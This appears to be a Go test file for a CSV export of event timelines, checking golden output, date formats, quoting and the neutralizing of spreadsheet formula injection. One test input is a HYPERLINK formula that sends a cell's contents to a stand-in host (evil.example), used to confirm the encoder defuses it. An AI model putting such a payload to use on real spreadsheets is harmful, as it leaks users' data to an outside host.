package csvfile_test

import (
	"bytes"
	"encoding/csv"
	"os"
	"strings"
	"testing"

	"github.com/google/uuid"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/accordline/accordline/event"
	"github.com/accordline/accordline/export"
	"github.com/accordline/accordline/export/csvfile"
	"github.com/accordline/accordline/export/internal/fuzztext"
	"github.com/accordline/accordline/timeline"
)

const golden = "../../testdata/seed.csv"

func seedTimeline(t testing.TB) *timeline.Timeline { return fuzztext.SeedTimeline(t) }

func encode(t *testing.T, tl *timeline.Timeline) []byte {
	t.Helper()
	var b bytes.Buffer
	require.NoError(t, errOf(csvfile.Encode(&b, tl, nil)))
	return b.Bytes()
}

func parse(t *testing.T, b []byte) [][]string {
	t.Helper()
	r := csv.NewReader(bytes.NewReader(b))
	r.FieldsPerRecord = 0 // every row as long as the first
	rows, err := r.ReadAll()
	require.NoError(t, err)
	return rows
}

func TestGolden(t *testing.T) {
	got := encode(t, seedTimeline(t))
	fuzztext.Golden(t, golden, got, *fuzztext.Update)
	assert.Equal(t, got, encode(t, seedTimeline(t)), "output is deterministic")
}

func TestRoundTrip(t *testing.T) {
	tl := seedTimeline(t)
	b := encode(t, tl)
	assert.True(t, bytes.HasSuffix(b, []byte("\r\n")), "CRLF line endings")
	assert.NotContains(t, strings.ReplaceAll(string(b), "\r\n", ""), "\n", "no bare LF outside quoted fields in the seed")
	rows := parse(t, b)
	require.Len(t, rows, tl.Len()+1)
	assert.Equal(t, csvfile.Columns(), rows[0])
	i := 1
	for e := range tl.All() {
		row := rows[i]
		require.Len(t, row, len(csvfile.Columns()))
		assert.Equal(t, e.ID.String(), row[0])
		assert.Equal(t, e.Date.String(), row[1])
		assert.Equal(t, e.Title, row[10])
		i++
	}
}

func statement(title string) event.Event {
	return event.Event{Kind: event.Statement, Status: event.Occurred, Title: title,
		Date:         event.MustParseDate("2025-11-06"),
		Participants: []event.Participation{{Actor: "KZ", Role: event.Speaker}}}
}

func newTimeline(t *testing.T, events ...event.Event) *timeline.Timeline {
	t.Helper()
	tl := timeline.New("Test", "")
	require.NoError(t, tl.AddActors(event.Actor{ID: "KZ", Type: event.State, Name: "Kazakhstan", Country: "KZ"}))
	fuzztext.MustAdd(t, tl, events...)
	return tl
}

func TestFormulaInjection(t *testing.T) {
	titles := []string{`=HYPERLINK("http://evil.example/?x="&A1,"click")`, "+1", "-2", "@SUM(A1)", "\tTab", "=1+1"}
	var events []event.Event
	for _, title := range titles {
		e := statement(title)
		e.ID = uuid.NewSHA1(uuid.NameSpaceURL, []byte(title))
		e.DateText = title
		e.Tags = []string{"x"}
		events = append(events, e)
	}
	tl := newTimeline(t, events...)
	rows := parse(t, encode(t, tl))
	require.Len(t, rows, len(titles)+1)
	seen := map[string]bool{}
	for _, row := range rows[1:] {
		for _, cell := range row {
			if cell != "" {
				assert.NotContains(t, "=+-@\t\r", cell[:1], "cell %q", cell)
			}
		}
		assert.Equal(t, row[10], row[2])
		seen[row[10]] = true
	}
	for _, title := range titles {
		assert.True(t, seen["'"+title], "title %q neutralized", title)
	}
}

func TestNegativeYears(t *testing.T) {
	e := statement("The Ides of March")
	e.Date = event.MustParseDate("-0043-03-15")
	rows := parse(t, encode(t, newTimeline(t, e)))
	assert.Equal(t, "'-0043-03-15", rows[1][1])
	assert.Equal(t, "'-0043-03-15", rows[1][3])
	assert.Equal(t, "'-0043-03-15", rows[1][4])
}

func TestImpreciseDates(t *testing.T) {
	for _, tt := range []struct{ date, earliest, latest string }{
		{"1992", "1992-01-01", "1992-12-31"},
		{"2025-11", "2025-11-01", "2025-11-30"},
		{"2025-11-07/2026-05~", "2025-11-07", "2026-05-31"},
		{"2025-11-06/..", "2025-11-06", ""},
		{"../2025-11-06", "", "2025-11-06"},
	} {
		e := statement("Statement")
		e.Status = event.Announced
		e.Date = event.MustParseDate(tt.date)
		rows := parse(t, encode(t, newTimeline(t, e)))
		assert.Equal(t, tt.date, rows[1][1])
		assert.Equal(t, tt.earliest, rows[1][3], tt.date)
		assert.Equal(t, tt.latest, rows[1][4], tt.date)
	}
}

func TestSpecialCharacters(t *testing.T) {
	e := statement(`He said "yes", then left`)
	e.Description = "ignored"
	e.DateText = "on the day, as they say"
	e.Tags = []string{"a,b", `c"d`}
	e.Sources = []event.Source{{Publisher: "P, Inc.", URL: "https://example.org/a?b=1,2", Lang: "en",
		Quotes: []event.Quote{{Text: "A \"quoted\", multi\nline text\r\nin three lines"}}}}
	rows := parse(t, encode(t, newTimeline(t, e)))
	require.Len(t, rows, 2)
	row := rows[1]
	assert.Equal(t, `He said "yes", then left`, row[10])
	assert.Equal(t, "on the day, as they say", row[2])
	assert.Equal(t, `a,b; c"d`, row[14])
	assert.Equal(t, "P, Inc. https://example.org/a?b=1,2", row[15])
	// encoding/csv reads CRLF inside a quoted field as LF.
	assert.Equal(t, "A \"quoted\", multi\nline text\nin three lines", row[16])
	assert.Equal(t, "Kazakhstan (speaker)", row[11])
}

func TestNeutralize(t *testing.T) {
	for in, want := range map[string]string{"": "", "a": "a", "=1": "'=1", "+1": "'+1", "-1": "'-1",
		"@x": "'@x", "\tx": "'\tx", "\rx": "'\rx", "\nx": "'\nx", "'=1": "'=1",
		// Spreadsheets skip blanks and line breaks before a formula.
		" =1": "' =1", "\n=1": "'\n=1", "\u00a0+1": "'\u00a0+1", " \u3000@x": "' \u3000@x",
		"\x00=1": "'\x00=1", "＝1": "'＝1", " ＠x": "' ＠x",
		" 1": " 1", " x=1": " x=1", "  ": "  ", " '=1": " '=1"} {
		assert.Equal(t, want, csvfile.Neutralize(in), "%q", in)
	}
}

type failWriter struct{}

func (failWriter) Write([]byte) (int, error) { return 0, os.ErrClosed }

func TestWriteError(t *testing.T) {
	require.ErrorIs(t, errOf(csvfile.Encode(failWriter{}, seedTimeline(t), nil)), os.ErrClosed)
}

// errOf returns the error of a writer, for tests that only check it.
func errOf(_ export.Report, err error) error { return err }
